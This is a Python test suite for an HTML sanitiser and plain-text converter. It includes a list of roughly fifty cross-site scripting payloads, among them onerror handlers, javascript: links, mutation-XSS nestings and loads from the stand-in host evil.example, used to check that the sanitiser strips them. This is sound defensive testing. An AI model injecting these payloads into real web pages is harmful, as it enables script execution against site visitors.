"""HTML of strangers: made harmless, and read as text."""

from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from backissue.text.html import plain_text, sanitise
from backissue.text.links import clean_link
from tests.examples import examples

PIECES = st.sampled_from(
    """<p>|</p>|<div>|</div>|<a href="https://example.org/">|<a href='javascript:alert(1)'>|</a>|<img src=x onerror=alert(1)>
<img src="https://example.org/a.png" alt="a<b">|<script>|</script>|<style>|</style>|<svg>|</svg>|<svg/onload=alert(1)>|<math>
</math>|<table>|<tr>|<td colspan=2>|<th>|</td>|</tr>|</table>|<ul>|<ol start=3>|<li>|</ul>|</ol>|<pre>|</pre>|<code>|<textarea>
</textarea>|<title>|<!--|-->|--!>|<!>|<![CDATA[|]]>|<![if]|<?x|?>|<template>|</template>|<noscript>|</noscript>|<form>|</form>
<iframe srcdoc="<script>">|<select>|<option>|<b>|<i>|</b>|</i>|<br>|</br>|<br/>|<hr>|<center>|<strike>|<q cite=javascript:x>
<|>|&|&lt;|&amp;lt;|&#60;|&#x3c;script&#x3e;|"|'|`|=|/|\\|<a|<p/|<p/>|</|<image src=x>|<base href=//evil.example>|<object data=x>
<meta http-equiv=refresh>|<plaintext>|<xmp>|<embed src=x>|<form><math><mtext></form><mglyph><style></math><img src=x>""".replace(
        "\n", "|"
    ).split("|")
)
HTML = st.lists(PIECES | st.text(max_size=5), max_size=25).map("".join)
ALLOWED = frozenset((
    "p", "div", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "pre", "blockquote", "table",
    "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "hr", "figure", "figcaption", "a", "b", "i", "em",
    "strong", "code", "kbd", "samp", "var", "sub", "sup", "s", "del", "ins", "u", "small", "mark", "q", "cite",
    "abbr", "dfn", "span", "br",
))  # fmt: skip


class Reader(HTMLParser):
    """Lists the tags of HTML, and whether they are balanced."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.balanced = True
        self.feed(html)
        self.close()
        self.balanced &= not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.balanced &= bool(self.open) and self.open.pop() == tag


def assert_harmless(html: str) -> None:
    read = Reader(html)
    assert read.balanced
    for tag, attributes in read.tags:
        assert tag in ALLOWED
        assert set(attributes) <= {"href", "rel", "colspan", "rowspan", "start"}
        if "href" in attributes:
            assert tag == "a"
            assert clean_link(attributes["href"] or "") == attributes["href"]


@examples(100)
@given(HTML)
@example("<![foo[")
@example("<a href=https://example.org/><a href=https://example.org/>")
def test_any_html_becomes_harmless_and_stays_so(html: str) -> None:
    """Whatever is given, only balanced tags of the list come out, with safe links; sanitising again changes nothing."""
    once = sanitise(html)
    assert_harmless(once)
    assert sanitise(once) == once


@examples(100)
@given(HTML)
def test_any_html_can_be_read_as_text(html: str) -> None:
    """Text of what was sanitised is there without space at its ends, and read as text again it stays."""
    text = plain_text(sanitise(html))
    assert text == text.rstrip("\n ")
    assert plain_text(f"<pre>{escape(text)}</pre>") == text.lstrip("\n")
    assert isinstance(plain_text(html), str)


VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<a href=https://example.org onclick=alert(1) style=position:fixed>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<table background=//evil.example/x><td>x</table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<img alt='\"><script>alert(1)</script>' src='https://example.org/a.png'>",
    "<img src='https://example.org/\"onmouseover=alert(1) x=\"'>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a href=https://example.org/ href=javascript:alert(1)>x</a>",
    "<p><template><img src=x onerror=alert(1)></template></p>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<a\x00href=javascript:alert(1)>x</a>",
    "<img/src/onerror=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1) />#x'></use></svg>",
]


@pytest.mark.parametrize("html", VECTORS)
def test_known_attacks_are_harmless(html: str) -> None:
    """None of the known ways to run a script, or to ask another site, gets through, also when it is read twice."""
    assert_harmless(sanitise(html))
    assert_harmless(sanitise(f"<p>before</p>{html}<p>after</p>"))
    assert "evil.example" not in sanitise(html)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>One<p>Two", "<p>One</p><p>Two</p>"),
        ("<b><i>x</b>y</i>", "<b><i>x</i></b>y"),
        ("<ul><li>a<li>b<ul><li>c</ul><li>d</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li><li>d</li></ul>"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>"),
        ("<pre>\n  if x:\n    y &lt; z\n</pre>", "<pre>\n  if x:\n    y &lt; z\n</pre>"),
        ("<form><p>gone</form>stays", "stays"),
        ("<head><title>gone</title><body>stays", "stays"),
        ("<svg><p>gone</svg><p>stays", "<p>stays</p>"),
        ("<section><center>x</center></section>", "<div><div>x</div></div>"),
        ("<a href='/relative'>x</a>", "<a>x</a>"),
        ("<img src='https://example.org/p.png' width=1 height=1>", ""),
        ("<img alt='a boat'>", "a boat"),
        ("5 < 6 & 7 > 2", "5 &lt; 6 &amp; 7 &gt; 2"),
        ("x</br>y", "x<br>y"),
        ("<ol start=5><li>x</ol>", '<ol start="5"><li>x</li></ol>'),
        ("<td rowspan=2 colspan=1000>", '<td rowspan="2"></td>'),
    ],
)
def test_what_is_meant_is_kept(html: str, expected: str) -> None:
    """Sloppy HTML comes out as a reader would have seen it."""
    assert sanitise(html) == expected


def test_depth_is_bounded() -> None:
    """Elements nested without end do not reach the page as deep as they came."""
    html = sanitise("<div>" * 10_000 + "x")
    assert html.count("<div>") == 64
    assert_harmless(html)


def test_dropped_elements_without_end_cost_no_more_than_their_length() -> None:
    """Thousands of open elements with as many strange ends are read in one go."""
    assert sanitise("<svg>" * 20_000 + "</b>" * 20_000) == ""


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>One</p>\n<p>Two</p>", "One\n\nTwo"),
        ("One<br>two<br><br>three", "One\ntwo\n\nthree"),
        ("<p>a <b> b </b> c</p>", "a b c"),
        ("<ul>\n<li>a</li>\n<li>b</li>\n</ul>", "a\nb"),
        ("<table><tr><td> a </td> <td>b</td></tr><tr><td>c</td></tr></table>", "a\tb\nc"),
        ("<p>See:</p><pre><code>def f():\n\n    return 1\n</code></pre><p>Done</p>", "See:\n\ndef f():\n\n    return 1\n\nDone"),
        ("<pre><span>a</span>\n\n\n<span>b</span></pre>", "a\n\n\nb"),
        ("<pre>\n\n  x\n\n</pre>", "  x"),
        ("a<pre>  b</pre>c", "a\n\n  b\n\nc"),
        ("<style>p{}</style><script>x</script>text<noscript>no</noscript>", "text"),
        ("a&nbsp;b &amp; c &lt;d&gt;", "a b & c <d>"),
        ("<h2>Title</h2>text<blockquote>said</blockquote>", "Title\n\ntext\n\nsaid"),
        ("<dl><dt>a<dd>b<dt>c<dd>d</dl>", "a\nb\nc\nd"),
        ("<title>gone</title><div><div>in</div></div>", "in"),
        ("", ""),
        ("no tags at all", "no tags at all"),
    ],
)
def test_text_is_laid_out_as_a_reader_sees_it(html: str, expected: str) -> None:
    """Blocks stand apart, lines and cells stay apart, and code keeps its lines and indents."""
    assert plain_text(html) == expected
